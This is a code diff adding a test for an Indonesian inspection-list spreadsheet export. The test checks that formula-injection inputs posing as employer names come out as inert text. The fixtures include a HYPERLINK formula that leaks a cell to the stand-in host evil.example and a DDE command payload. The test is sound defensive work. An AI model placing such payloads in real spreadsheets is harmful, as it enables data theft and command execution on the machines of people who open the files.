@@ -83,3 +83,49 @@ def test_english_headers(con):
 
 def test_file_name():
     assert file_name("Kota Palembang", dt.date(2026, 6, 1)) == "sasaran-pemeriksaan_kota-palembang_2026-06.xlsx"
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&B5,"Klik di sini")',
+    "=cmd|' /C calc'!A0",
+    "+62 Usaha",
+    "-1+1",
+    "@SUM(1+1)",
+    "\tPT Tab",
+    "PT Maju\x0bJaya",  # Word's Shift+Enter pasted into Excel, stored before the import cleaned it
+    "CV Sinar\x00Abadi",
+]
+
+
+def _hostile_employers(con):
+    con.executemany(
+        "INSERT INTO perusahaan VALUES (DATE '2026-06-01', NULL, ?, ?, '16.01', 'C', 'KECIL', 'BELUM_DAFTAR', "
+        "?, 0, NULL, NULL, NULL, 0, 0, NULL)",
+        [(f"H{i}", name, 100 - i) for i, name in enumerate(HOSTILE)],
+    )
+
+
+def test_hostile_names_are_text_in_the_inspection_list(coverage_empty_store):  # noqa: F811
+    """Before: openpyxl stored the first two as live formulas; the vertical tab and the NUL made
+    the whole list fail with IllegalCharacterError for the kab/kota, its province and the country."""
+    _hostile_employers(coverage_empty_store)
+    for scope, label in ((Scope.wilayah("16.01"), "Ogan Komering Ulu"), (Scope.wilayah("16"), "Sumatera Selatan"),
+                         (Scope.nasional(), "Indonesia")):
+        data = inspection_xlsx(coverage_empty_store, scope, label, ef.PERIODE, now=NOW)
+        ws, rows = read(data)
+        names = [r[1] for r in rows[4:]]
+        assert names == [
+            "'=HYPERLINK(\"http://evil.example/?leak=\"&B5,\"Klik di sini\")",
+            "'=cmd|' /C calc'!A0",
+            "'+62 Usaha",
+            "'-1+1",
+            "'@SUM(1+1)",
+            "'\tPT Tab",
+            "PT Maju Jaya",
+            "CV Sinar Abadi",
+        ]
+        assert {ws.cell(row=r, column=2).data_type for r in range(5, 5 + len(HOSTILE))} == {"s"}
+    # Nothing in the file's XML is a formula.
+    import zipfile
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet and b"<f " not in sheet
